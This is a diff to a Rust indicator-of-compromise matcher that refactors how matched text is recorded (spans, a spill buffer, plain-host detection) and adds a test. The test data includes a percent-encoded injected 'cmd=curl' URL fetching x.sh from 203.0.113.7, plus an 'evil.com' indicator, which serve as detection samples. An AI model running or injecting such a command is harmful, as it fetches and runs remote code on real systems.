@@ -209,10 +209,11 @@ impl IocMatcher {
 
     /// Indicators matching one cell read with `role`, as (id, matched text), at most one per id.
     pub fn match_cell(&self, role: Role, cell: &[u8]) -> Vec<(u32, String)> {
-        let mut out = Vec::new();
+        let mut out = Found::default();
         let mut ctx = Ctx::default();
+        out.start_cell(cell);
         self.cell(role, cell, &mut ctx, &mut out);
-        out
+        out.items.iter().map(|&(id, span)| (id, String::from_utf8_lossy(out.text(cell, span)).into_owned())).collect()
     }
 
     fn cell(&self, role: Role, cell: &[u8], ctx: &mut Ctx, out: &mut Found) {
@@ -225,7 +226,7 @@ impl IocMatcher {
                     return;
                 }
                 match parse_ip(cell) {
-                    Some(ip) => emit(out, self.ips.lookup(ip), cell),
+                    Some(ip) => out.emit(self.ips.lookup(ip), cell),
                     None => self.tokens(cell, out),
                 }
             }
@@ -234,10 +235,10 @@ impl IocMatcher {
                     self.tokens(cell, out);
                 } else if cell[0].is_ascii_digit() && parse_v4(cell).is_some() {
                     if let Some(a) = parse_v4(cell) {
-                        emit(out, self.ips.lookup_v4(a), cell);
+                        out.emit(self.ips.lookup_v4(a), cell);
                     }
                 } else {
-                    self.domains.for_each_match(cell, |ids, _| emit(out, ids, cell));
+                    self.domains.for_each_match(cell, |ids, _| out.emit(ids, cell));
                 }
             }
             Role::Text => {
@@ -249,7 +250,7 @@ impl IocMatcher {
             Role::UserAgent => {
                 if self.ua_lens.get(cell.len()).copied().unwrap_or(false) {
                     if let Some(ids) = self.uas.get(cell) {
-                        emit(out, ids, cell);
+                        out.emit(ids, cell);
                     }
                 }
             }
@@ -262,24 +263,26 @@ impl IocMatcher {
         }
     }
 
-    /// Match rows `rows` of one column. IPv4 cells of `ip` columns and plain host names of
-    /// `domain` columns take a direct path; everything else goes through [`Self::cell`].
+    /// Match rows `rows` of one column, read through `get` (one copy of this loop per column
+    /// layout, so the layout is not re-dispatched per row). IPv4 cells of `ip` columns and
+    /// plain host names of `domain` columns take a direct path; everything else goes through
+    /// [`Self::cell`]. Hits refer to their cell by row and column, nothing is copied.
     #[allow(clippy::too_many_arguments)]
-    fn column(
+    #[inline(always)]
+    fn column<'a>(
         &self,
         role: Role,
         si: u32,
-        col: &Col<'_>,
+        get: impl Fn(usize) -> Option<&'a [u8]>,
         unless: Option<&dyn Array>,
         rows: std::ops::Range<usize>,
-        base: u64,
         ctx: &mut Ctx,
+        out: &mut Found,
         hits: &mut Vec<Hit>,
     ) {
-        let mut found: Found = Vec::new();
-        let push = |hits: &mut Vec<Hit>, row: usize, cell: &[u8], found: &mut Found| {
-            for (id, m) in found.drain(..) {
-                hits.push(Hit { row: base + row as u64, col: si, ioc: id, value: String::from_utf8_lossy(cell).into_owned(), matched: m });
+        let push = |hits: &mut Vec<Hit>, row: usize, out: &mut Found| {
+            for (ioc, m) in out.items.drain(..) {
+                hits.push(Hit { row, col: si, ioc, m });
             }
         };
         // IPv4 cells of ip columns are parsed in groups of B, their index entries prefetched,
@@ -287,13 +290,10 @@ impl IocMatcher {
         const B: usize = 16;
         let mut pending: [(usize, u32); B] = [(0, 0); B];
         let mut np = 0;
-        let flush = |pending: &[(usize, u32)], hits: &mut Vec<Hit>, found: &mut Found| {
+        let flush = |pending: &[(usize, u32)], hits: &mut Vec<Hit>| {
             for &(row, a) in pending {
-                let ids = self.ips.lookup_v4(a);
-                if !ids.is_empty() {
-                    let cell = col.get(row).unwrap_or_default();
-                    emit(found, ids, cell);
-                    push(hits, row, cell, found);
+                for &ioc in self.ips.lookup_v4(a) {
+                    hits.push(Hit { row, col: si, ioc, m: Span::CELL });
                 }
             }
         };
@@ -301,7 +301,7 @@ impl IocMatcher {
             if unless.is_some_and(|u| u.is_valid(row)) {
                 continue;
             }
-            let Some(cell) = col.get(row) else { continue };
+            let Some(cell) = get(row) else { continue };
             match role {
                 Role::Ip => {
                     if let Some(a) = parse_v4(cell) {
@@ -309,30 +309,26 @@ impl IocMatcher {
                         pending[np] = (row, a);
                         np += 1;
                         if np == B {
-                            flush(&pending, hits, &mut found);
+                            flush(&pending, hits);
                             np = 0;
                         }
                         continue;
                     }
                 }
-                Role::Domain => {
-                    let plain = !cell.is_empty() && !cell[0].is_ascii_digit() && memchr::memchr3(b':', b'/', b'@', cell).is_none();
-                    if plain {
-                        self.domains.for_each_match(cell, |ids, _| emit(&mut found, ids, cell));
-                        if !found.is_empty() {
-                            push(hits, row, cell, &mut found);
-                        }
-                        continue;
-                    }
+                Role::Domain if plain_host(cell) => {
+                    // ids of one table entry are distinct, and entries are distinct suffixes
+                    self.domains.for_each_match(cell, |ids, _| {
+                        hits.extend(ids.iter().map(|&ioc| Hit { row, col: si, ioc, m: Span::CELL }));
+                    });
+                    continue;
                 }
                 _ => {}
             }
-            self.cell(role, cell, ctx, &mut found);
-            if !found.is_empty() {
-                push(hits, row, cell, &mut found);
-            }
+            out.start_cell(cell);
+            self.cell(role, cell, ctx, out);
+            push(hits, row, out);
         }
-        flush(&pending[..np], hits, &mut found);
+        flush(&pending[..np], hits);
     }
 
     fn text(&self, t: &[u8], out: &mut Found) {
@@ -345,13 +341,13 @@ impl IocMatcher {
                 let before_ok = s == 0 || !url_char(t[s - 1]);
                 let after_ok = e == t.len() || !(url_char(t[e]) || matches!(t[e], b'~' | b'%' | b':'));
                 if before_ok && after_ok && t[s + cs..e] == pat[cs..] {
-                    emit(out, &[id], &t[s..e]);
+                    out.emit(&[id], &t[s..e]);
                 }
             }
         }
         if let Some(ac) = &self.sub_ac {
             for m in ac.find_overlapping_iter(t) {
-                emit(out, &[self.sub_ids[m.pattern().as_usize()]], &t[m.start()..m.end()]);
+                out.emit(&[self.sub_ids[m.pattern().as_usize()]], &t[m.start()..m.end()]);
             }
         }
     }
@@ -378,7 +374,7 @@ impl IocMatcher {
                 low.copy_from_slice(t);
                 low.make_ascii_lowercase();
                 if let Some(ids) = self.emails.get(&*low) {
-                    emit(out, ids, t);
+                    out.emit(ids, t);
                 }
             }
             self.token(&t[at + 1..], out);
@@ -387,7 +383,7 @@ impl IocMatcher {
         let colons = memchr::memchr_iter(b':', t).count();
         if colons >= 2 {
             if let Some(ip) = parse_ip(t) {
-                emit(out, self.ips.lookup(ip), t);
+                out.emit(self.ips.lookup(ip), t);
                 return;
             }
         }
@@ -409,7 +405,7 @@ impl IocMatcher {
         }
         if t[0].is_ascii_digit() {
             if let Some(a) = parse_v4(t) {
-                emit(out, self.ips.lookup_v4(a), t);
+                out.emit(self.ips.lookup_v4(a), t);
                 return;
             }
         }
@@ -419,12 +415,12 @@ impl IocMatcher {
             low.copy_from_slice(t);
             low.make_ascii_lowercase();
             if let Some(ids) = self.hashes.get(&*low) {
-                emit(out, ids, t);
+                out.emit(ids, t);
             }
             return;
         }
         if !self.domains.is_empty() && memchr::memchr(b'.', t).is_some() {
-            self.domains.for_each_match(t, |ids, _| emit(out, ids, t));
+            self.domains.for_each_match(t, |ids, _| out.emit(ids, t));
         }
     }
 
@@ -437,7 +433,7 @@ impl IocMatcher {
         let mut base = 0u64;
         for (bi, batch) in batches.iter().enumerate() {
             let mut cols = Vec::with_capacity(specs.len());
-            for (si, spec) in specs.iter().enumerate() {
+            for spec in specs {
                 let arr = batch.column_by_name(&spec.name).ok_or_else(|| format!("no column {:?} in the table", spec.name))?;
                 let col = Col::new(arr.as_ref()).ok_or_else(|| {
                     format!("column {:?} is {}, not a string column (Utf8, LargeUtf8, Utf8View or a dictionary of them)", spec.name, arr.data_type())
@@ -446,7 +442,7 @@ impl IocMatcher {
                     Some(u) => batch.column_by_name(u).cloned(),
                     None => None,
                 };
-                cols.push((si, col, unless));
+                cols.push((col, unless));
             }
             prepared.push(cols);
             let n = batch.num_rows();
@@ -458,31 +454,58 @@ impl IocMatcher {
             }
             base += n as u64;
         }
-        let parts: Vec<Vec<Hit>> = tasks
+        let parts: Vec<Part> = tasks
             .par_iter()
             .map(|&(bi, lo, hi, base)| {
                 let mut ctx = Ctx::default();
+                let mut out = Found::default();
                 let mut hits = Vec::new();
                 // column by column (one role per loop, predictable branches), then row order
-                for (si, col, unless) in &prepared[bi] {
-                    self.column(specs[*si].role, *si as u32, col, unless.as_deref(), lo..hi, base, &mut ctx, &mut hits);
+                for (si, (col, unless)) in prepared[bi].iter().enumerate() {
+                    let (role, si, u, rows) = (specs[si].role, si as u32, unless.as_deref(), lo..hi);
+                    let (c, o, h) = (&mut ctx, &mut out, &mut hits);
+                    match col {
+                        Col::Utf8(a) => self.column(role, si, |i| a.is_valid(i).then(|| a.value(i).as_bytes()), u, rows, c, o, h),
+                        Col::Large(a) => self.column(role, si, |i| a.is_valid(i).then(|| a.value(i).as_bytes()), u, rows, c, o, h),
+                        Col::View(a) => self.column(role, si, |i| a.is_valid(i).then(|| a.value(i).as_bytes()), u, rows, c, o, h),
+                        Col::Dict { .. } => self.column(role, si, |i| col.get(i), u, rows, c, o, h),
+                    }
                 }
                 hits.sort_by_key(|h| (h.row, h.col));
-                hits
+                Part { bi, base, hits, spill: out.spill }
             })
             .collect();
-        let n: usize = parts.iter().map(Vec::len).sum();
+        self.hits_batch(&parts, &prepared, specs)
+    }
+
+    /// The hits table: the cells (`value`) and matched texts are copied from the input columns
+    /// (or a part's spill) straight into the output buffers.
+    fn hits_batch(&self, parts: &[Part], prepared: &[Vec<(Col<'_>, Option<ArrayRef>)>], specs: &[ColumnSpec]) -> Result<RecordBatch, String> {
+        let n: usize = parts.iter().map(|p| p.hits.len()).sum();
+        let mut value_bytes = 0;
+        let mut matched_bytes = 0;
+        for p in parts {
+            for h in &p.hits {
+                let cell = prepared[p.bi][h.col as usize].0.get(h.row).unwrap_or_default();
+                value_bytes += cell.len();
+                matched_bytes += p.text(cell, h.m).len();
+            }
+        }
+        let names_bytes = parts.iter().flat_map(|p| &p.hits).map(|h| specs[h.col as usize].name.len()).sum();
         let mut row = UInt64Builder::with_capacity(n);
-        let mut column = StringBuilder::new();
+        let mut column = StringBuilder::with_capacity(n, names_bytes);
         let mut ioc = UInt32Builder::with_capacity(n);
-        let mut value = StringBuilder::new();
-        let mut matched = StringBuilder::new();
-        for h in parts.into_iter().flatten() {
-            row.append_value(h.row);
-            column.append_value(&specs[h.col as usize].name);
-            ioc.append_value(h.ioc);
-            value.append_value(&h.value);
-            matched.append_value(&h.matched);
+        let mut value = StringBuilder::with_capacity(n, value_bytes);
+        let mut matched = StringBuilder::with_capacity(n, matched_bytes);
+        for p in parts {
+            for h in &p.hits {
+                let cell = prepared[p.bi][h.col as usize].0.get(h.row).unwrap_or_default();
+                row.append_value(p.base + h.row as u64);
+                column.append_value(&specs[h.col as usize].name);
+                ioc.append_value(h.ioc);
+                append_text(&mut value, cell);
+                append_text(&mut matched, p.text(cell, h.m));
+            }
         }
         let cols: Vec<ArrayRef> = vec![
             Arc::new(row.finish()),
@@ -495,7 +518,102 @@ impl IocMatcher {
     }
 }
 
-type Found = Vec<(u32, String)>;
+/// Append bytes that are UTF-8 (cells of string columns, and whole tokens of them) as they
+/// are; anything else (a percent-decoded text) lossily.
+#[inline]
+fn append_text(b: &mut StringBuilder, t: &[u8]) {
+    match simdutf8::basic::from_utf8(t) {
+        Ok(s) => b.append_value(s),
+        Err(_) => b.append_value(String::from_utf8_lossy(t)),
+    }
+}
+
+/// Where a hit's matched text is: `len` bytes at `start` of the cell, or of the spill buffer
+/// (text that is not in the cell: percent-decoded) when `spilled`.
+#[derive(Clone, Copy, Debug)]
+struct Span {
+    start: u32,
+    len: u32,
+    spilled: bool,
+}
+
+impl Span {
+    /// The whole cell (`len` is ignored then).
+    const CELL: Span = Span { start: 0, len: u32::MAX, spilled: false };
+}
+
+/// The indicators found in the current cell, at most one per id, with where each matched.
+#[derive(Default)]
+struct Found {
+    items: Vec<(u32, Span)>,
+    /// the current cell's address range, to tell slices of it from decoded text
+    cell: (usize, usize),
+    /// matched texts that are not in their cell, for the whole task
+    spill: Vec<u8>,
+}
+
+impl Found {
+    #[inline]
+    fn start_cell(&mut self, cell: &[u8]) {
+        self.items.clear();
+        self.cell = (cell.as_ptr() as usize, cell.len());
+    }
+
+    /// Record `ids` as matched by `m` (a slice of the current cell, or of a decoded copy).
+    #[inline]
+    fn emit(&mut self, ids: &[u32], m: &[u8]) {
+        for &id in ids {
+            if self.items.iter().any(|(x, _)| *x == id) {
+                continue;
+            }
+            let off = (m.as_ptr() as usize).wrapping_sub(self.cell.0);
+            let span = match (u32::try_from(off), u32::try_from(m.len())) {
+                (Ok(start), Ok(len)) if off <= self.cell.1 && m.len() <= self.cell.1 - off => Span { start, len, spilled: false },
+                _ => {
+                    let start = u32::try_from(self.spill.len()).unwrap_or(u32::MAX);
+                    self.spill.extend_from_slice(m);
+                    Span { start, len: u32::try_from(m.len()).unwrap_or(0), spilled: true }
+                }
+            };
+            self.items.push((id, span));
+        }
+    }
+
+    /// The text of `span` for the cell `cell`.
+    fn text<'a>(&'a self, cell: &'a [u8], span: Span) -> &'a [u8] {
+        span_text(cell, &self.spill, span)
+    }
+}
+
+#[inline]
+fn span_text<'a>(cell: &'a [u8], spill: &'a [u8], span: Span) -> &'a [u8] {
+    let src = if span.spilled { spill } else { cell };
+    let start = (span.start as usize).min(src.len());
+    let end = start.saturating_add(span.len as usize).min(src.len());
+    &src[start..end]
+}
+
+/// A host name alone in a cell (not `host:port`, a URL, an e-mail or an IPv4 address): the
+/// domain table is probed directly.
+#[inline]
+fn plain_host(cell: &[u8]) -> bool {
+    // a fold without early exit: vectorised, faster than memchr3 on short cells
+    !cell.is_empty() && !cell[0].is_ascii_digit() && !cell.iter().fold(false, |any, &b| any | matches!(b, b':' | b'/' | b'@'))
+}
+
+/// The hits of one task (a range of rows of one batch).
+struct Part {
+    bi: usize,
+    base: u64,
+    hits: Vec<Hit>,
+    spill: Vec<u8>,
+}
+
+impl Part {
+    fn text<'a>(&'a self, cell: &'a [u8], span: Span) -> &'a [u8] {
+        span_text(cell, &self.spill, span)
+    }
+}
 
 #[derive(Default)]
 struct Ctx {
@@ -503,21 +621,12 @@ struct Ctx {
     b: Vec<u8>,
 }
 
+/// One hit: row in its batch, column (spec index), indicator, where it matched.
 struct Hit {
-    row: u64,
+    row: usize,
     col: u32,
     ioc: u32,
-    value: String,
-    matched: String,
-}
-
-#[inline]
-fn emit(out: &mut Found, ids: &[u32], matched: &[u8]) {
-    for &id in ids {
-        if !out.iter().any(|(x, _)| *x == id) {
-            out.push((id, String::from_utf8_lossy(matched).into_owned()));
-        }
-    }
+    m: Span,
 }
 
 #[inline]
@@ -669,6 +778,38 @@ mod tests {
             assert_eq!(rows, vec![0, 0, 1, 3, 4, 4, 5, 7]);
             assert_eq!(iocs, vec![0, 1, 1, 0, 0, 1, 1, 0]);
         }
+    }
+
+    /// `value` is the cell and `matched` the text that matched: a part of the cell, the whole
+    /// cell, or text that is only in the percent-decoded cell.
+    #[test]
+    fn value_and_matched_columns() {
+        let m = set(&[("ip", "203.0.113.7"), ("domain", "evil.com"), ("url", "http://203.0.113.7/x.sh")]);
+        let urls = ["x /s?cmd=curl%20http%3A%2F%2F203.0.113.7%2Fx.sh", "CONNECT a.evil.com:443", "é 203.0.113.7 ü"];
+        let doms = ["www.EVIL.com", "nope.org", "evil.com:8443"];
+        let batch = RecordBatch::try_from_iter([
+            ("url", Arc::new(StringViewArray::from(urls.to_vec())) as ArrayRef),
+            ("domain", Arc::new(StringArray::from(doms.to_vec())) as ArrayRef),
+        ])
+        .unwrap();
+        let specs = [
+            ColumnSpec { name: "url".into(), role: Role::Text, unless: None },
+            ColumnSpec { name: "domain".into(), role: Role::Domain, unless: None },
+        ];
+        let hits = m.match_batches(&[batch], &specs).unwrap();
+        let text = |c: usize| -> Vec<String> { hits.column(c).as_string::<i32>().iter().map(|v| v.unwrap().to_string()).collect() };
+        let got: Vec<(String, String, String)> =
+            text(1).into_iter().zip(text(3)).zip(text(4)).map(|((c, v), m)| (c, v, m)).collect();
+        let want = [
+            ("url", urls[0], "203.0.113.7"),
+            ("url", urls[0], "http://203.0.113.7/x.sh"),
+            ("domain", doms[0], doms[0]),
+            ("url", urls[1], "a.evil.com"),
+            ("url", urls[2], "203.0.113.7"),
+            ("domain", doms[2], "evil.com"),
+        ];
+        let want: Vec<(String, String, String)> = want.iter().map(|(c, v, m)| (c.to_string(), v.to_string(), m.to_string())).collect();
+        assert_eq!(got, want);
     }
 
     #[test]
